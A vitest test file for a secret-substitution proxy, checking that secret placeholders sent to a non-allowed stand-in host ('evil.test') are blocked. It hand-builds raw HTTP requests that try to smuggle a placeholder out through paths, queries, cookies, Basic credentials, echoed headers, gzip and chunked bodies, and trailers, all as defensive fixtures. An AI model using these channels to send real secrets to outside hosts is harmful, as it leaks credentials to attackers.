// Placeholders that may not be substituted: forwarded unchanged and explained, or refused where the policy says so.

import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { type MadeSandbox, type MadeSecret, startKeyswap, type TestKeyswap } from "../support/keyswap.ts";
import { type Origin, startOrigin } from "../support/origin.ts";
import { connectThrough, errorOf, fieldValue, type WireAnswer } from "../support/wire-client.ts";

const host = "api.good.test";
const foreign = `dtn_secret_${"a1".repeat(14)}`;
let keyswap: TestKeyswap;
let origin: Origin;
let secret: MadeSecret;
let sandbox: MadeSandbox;
let reached = 0;

beforeAll(async () => {
  keyswap = await startKeyswap({ options: { note: true } });
  origin = await startOrigin({
    pki: keyswap.pki,
    names: [host, "evil.test"],
    early: () => {
      reached += 1;
      return false;
    },
  });
  secret = await keyswap.secret("the real value", [host]);
  sandbox = await keyswap.sandbox([secret], { onViolation: "block" });
});

beforeEach(() => {
  origin.seen.length = 0;
  reached = 0;
});

afterAll(async () => {
  await keyswap.close();
  await origin.close();
  expect(keyswap.errors).toEqual([]);
});

async function send(name: string, bytes: string | readonly (string | Buffer)[], from = sandbox): Promise<WireAnswer> {
  const client = await connectThrough(keyswap, from, name, origin.port);
  try {
    for (const part of typeof bytes === "string" ? [bytes] : bytes) await client.sendAll(part);
    return await client.read();
  } finally {
    client.close();
  }
}

function expectBlocked(answer: WireAnswer, reason: string): void {
  expect([answer.status, errorOf(answer)]).toEqual([403, "violation-blocked"]);
  expect(JSON.parse(answer.body.toString())).toMatchObject({ detail: reason });
  expect(answer.body.toString()).not.toContain(secret.value);
  expect(origin.seen).toEqual([]);
}

function post(name: string, type: string, body: string | Buffer, more = ""): readonly (string | Buffer)[] {
  const length = Buffer.byteLength(body);
  return [
    `POST / HTTP/1.1\r\nHost: ${name}\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n${more}\r\n`,
    Buffer.from(body),
  ];
}

describe("a sandbox that blocks violations gets 403 with the reason", () => {
  it("for a host that is not on the list, which is opened up for that", async () => {
    const answer = await send("evil.test", `GET / HTTP/1.1\r\nHost: evil.test\r\nX-Key: ${secret.placeholder}\r\n\r\n`);
    expectBlocked(answer, "host-not-allowed");
    expect(reached).toBe(0);
  });

  it("in a path, a query, a cookie and Basic credentials", async () => {
    const p = secret.placeholder;
    for (const head of [
      `GET /${p} HTTP/1.1\r\n`,
      `GET /?a=${p} HTTP/1.1\r\n`,
      `GET / HTTP/1.1\r\nCookie: a=${p}\r\n`,
      `GET / HTTP/1.1\r\nAuthorization: Basic ${Buffer.from(`u:${p}`).toString("base64")}\r\n`,
    ]) {
      expectBlocked(await send("evil.test", `${head}Host: evil.test\r\n\r\n`), "host-not-allowed");
    }
    expect(reached).toBe(0);
  });

  it("for a header that is echoed", async () => {
    const answer = await send(host, `GET / HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${secret.placeholder}\r\n\r\n`);
    expectBlocked(answer, "sink-header");
  });

  it("for a placeholder that is nobody's", async () => {
    expectBlocked(
      await send(host, `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Key: ${foreign}\r\n\r\n`),
      "unknown-placeholder",
    );
  });

  it("in a body that is held: the origin hears nothing at all", async () => {
    expectBlocked(
      await send("evil.test", post("evil.test", "application/json", `{"k":"${secret.placeholder}"}`)),
      "host-not-allowed",
    );
    const coded = gzipSync(`{"k":"${secret.placeholder}"}`);
    const answer = await send("evil.test", post("evil.test", "application/json", coded, "Content-Encoding: gzip\r\n"));
    expectBlocked(answer, "host-not-allowed");
    expect(reached).toBe(0);
  });

  it("in a body that is streamed: the origin never gets the whole, and never the placeholder's end", async () => {
    const body = `${"x".repeat(3_000_000)}${secret.placeholder}${"y".repeat(100_000)}`;
    expectBlocked(await send("evil.test", post("evil.test", "text/plain", body)), "host-not-allowed");
    const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;
    const answer = await send("evil.test", [
      `POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n`,
      chunk("some text"),
      chunk(secret.placeholder.slice(0, 20)),
      chunk(secret.placeholder.slice(20)),
      "0\r\n\r\n",
    ]);
    expectBlocked(answer, "host-not-allowed");
  });

  it("in a coded body that is streamed: the origin never gets the whole", async () => {
    const other = await keyswap.secret("meant for elsewhere", ["evil.test"]);
    const both = await keyswap.sandbox([secret, other], { onViolation: "block" });
    const coded = gzipSync(`${"some text ".repeat(1000)}${other.placeholder}${" more of it".repeat(1000)}`);
    const answer = await send(
      host,
      [
        `POST / HTTP/1.1\r\nHost: ${host}\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n`,
        `${coded.length.toString(16)}\r\n`,
        coded,
        "\r\n0\r\n\r\n",
      ],
      both,
    );
    expectBlocked(answer, "host-not-allowed");
  });

  it("in a coded body that is streamed to a host to which nothing may be written", async () => {
    const coded = gzipSync(`${"some text ".repeat(1000)}${secret.placeholder}`);
    const answer = await send("evil.test", [
      `POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n`,
      `${coded.length.toString(16)}\r\n`,
      coded,
      "\r\n0\r\n\r\n",
    ]);
    expectBlocked(answer, "host-not-allowed");
  });

  it("in a trailer", async () => {
    const answer = await send("evil.test", [
      `POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n`,
      `1\r\nx\r\n0\r\nX-Key: ${secret.placeholder}\r\n\r\n`,
    ]);
    expectBlocked(answer, "host-not-allowed");
  });

  it("and what may be substituted still is", async () => {
    const answer = await send(host, `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Key: ${secret.placeholder}\r\n\r\n`);
    expect(answer.status).toBe(200);
    expect(origin.last().headers["x-key"]).toBe(secret.value);
  });

  it("and what holds no placeholder passes", async () => {
    expect((await send("evil.test", `GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n`)).status).toBe(200);
  });

  it("the audit has status and reason", async () => {
    const events = await keyswap.exchanges(sandbox);
    expect(events[0]).toMatchObject({
      status: 403,
      error: "violation-blocked",
      substituted: [],
      notSubstituted: [{ secret: secret.name, surface: "header", reason: "host-not-allowed" }],
    });
  });
});

describe("a secret's own policy", () => {
  it("blocks where the sandbox passes", async () => {
    const strict = await keyswap.secret("strictly guarded", [host], {
      onViolation: "block",
      locations: ["header:x-api-key"],
    });
    const lax = await keyswap.sandbox([strict, secret]);
    expectBlocked(
      await send(host, `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Other: ${strict.placeholder}\r\n\r\n`, lax),
      "surface-not-allowed",
    );
    const answer = await send(host, `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Api-Key: ${strict.placeholder}\r\n\r\n`, lax);
    expect(answer.status).toBe(200);
    expect(origin.last().headers["x-api-key"]).toBe(strict.value);
  });
});

describe("where violations pass", () => {
  it("the placeholder goes out unchanged, and the answer says why", async () => {
    const lax = await keyswap.sandbox([secret]);
    const p = secret.placeholder;
    const answer = await send(
      host,
      `GET / HTTP/1.1\r\nHost: ${host}\r\nReferer: ${p}\r\nX-Key: ${foreign}\r\nX-Good: ${p}\r\n\r\n`,
      lax,
    );
    expect(answer.status).toBe(200);
    expect(origin.last().headers).toMatchObject({ referer: p, "x-key": foreign, "x-good": secret.value });
    const notes = fieldValue(answer, "keyswap-note")?.split(", ").sort();
    expect(notes).toEqual([
      `not-substituted;reason=sink-header;surface=header;secret="${secret.name}"`,
      "not-substituted;reason=unknown-placeholder;surface=header",
    ]);
    await vi.waitFor(async () => {
      const [event] = await keyswap.exchanges(lax);
      expect(event?.notSubstituted).toHaveLength(2);
      expect(event?.substituted).toEqual([{ secret: secret.name, surface: "header" }]);
    });
  });

  it("no note where there is nothing to say", async () => {
    const answer = await send(host, `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    expect(fieldValue(answer, "keyswap-note")).toBeUndefined();
  });
});
